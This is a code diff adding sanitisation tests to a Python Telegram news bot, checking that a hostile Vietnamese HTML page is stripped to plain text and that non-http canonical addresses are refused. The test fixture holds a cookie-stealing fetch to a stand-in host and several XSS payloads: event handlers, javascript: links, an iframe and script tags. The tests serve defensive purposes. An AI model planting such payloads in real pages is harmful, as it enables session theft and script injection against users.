@@ -14,6 +14,7 @@ import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
+from bot.formats.html import parse_html
 from bot.models import Answer, ReloadReport, SearchResult, SkippedFile
 from bot.parsing import ParseError, parse_article_text
 from bot.service import SearchService
@@ -194,7 +195,7 @@ async def test_hostile_articles_load_answer_and_render_as_text(tmp_path: Path) -
     write_hostile_articles(knowledge)
     long_line = "Hồ sơ điện tử liên thông " + "rất dài " * 130_000 + "kết thúc."  # ~1 MB without a full stop
     (knowledge / "long.txt").write_text(
-        article_text(title="Bài có dòng rất dài", paragraphs=["Mở đầu.", long_line, "x" * 1_000_000],
+        article_text(title="Bài có dòng rất dài", paragraphs=["Mở đầu.", long_line, "x" * 100_000],
                      url="https://hostile.example.vn/dai.html"), encoding="utf-8")  # fmt: skip
     service = await SearchService.open(tmp_path / "db.sqlite3", knowledge)
     try:
@@ -260,3 +261,37 @@ def test_every_reply_to_a_hostile_run_is_valid_telegram_html(emu: BotApiEmulator
     texts = [str(c.result["text"]) for c in replies]
     assert any("<script>document.cookie</script>" in t for t in texts)  # shown as text, never as markup
     assert "error while handling" not in bot.log_text()
+
+
+HOSTILE_PAGE = """<!doctype html><html><head><title>Cổng dịch vụ công mới</title>
+<link rel="canonical" href="{canonical}">
+<meta property="article:published_time" content="2024-03-01T08:00:00+07:00">
+<script>fetch('https://evil.example/steal?c=' + document.cookie)</script></head>
+<body onload="alert('onload')"><article><h1>Cổng dịch vụ công mới</h1>
+<p>Tỉnh Kon Tum khai trương cổng dịch vụ công mới <a href="javascript:alert('x')">bấm để xem</a> vào tháng Ba.</p>
+<script>alert('in body')</script><iframe src="javascript:alert('frame')"></iframe>
+<p>Người dân nộp hồ sơ <b onclick="alert('b')">trực tuyến</b> &lt;script&gt;alert('escaped')&lt;/script&gt; mọi lúc.</p>
+<p>Cổng mới giúp rút ngắn thời gian giải quyết thủ tục hành chính cho người dân và doanh nghiệp.</p>
+</article></body></html>"""
+
+
+def test_hostile_html_page_is_ingested_as_text() -> None:
+
+    article = parse_html(HOSTILE_PAGE.format(canonical="https://kontum.example.vn/cong-moi.html"))
+    assert str(article.url) == "https://kontum.example.vn/cong-moi.html"
+    body = "\n".join(article.paragraphs)
+    assert "bấm để xem" in body  # the link's text is kept, as text
+    for gone in ("document.cookie", "alert('in body')", "alert('onload')", "alert('b')", "javascript:", "frame"):
+        assert gone not in body, gone
+    r = SearchResult(fact_id=1, text=article.paragraphs[-2] if len(article.paragraphs) > 1 else body,
+                     url=str(article.url), title=article.title, site=article.site, published=article.published,
+                     score=1.0, matched=("script",))  # fmt: skip
+    plain = assert_valid_html(render.answer_html(Answer(question="q", answered=True, results=(r,))))
+    assert "trực tuyến" in plain
+
+
+@pytest.mark.parametrize("canonical", ["javascript:alert(1)", "data:text/html,x"])
+def test_html_page_claiming_a_non_http_address_is_refused(canonical: str) -> None:
+
+    with pytest.raises(ParseError):
+        parse_html(HOSTILE_PAGE.format(canonical=canonical))
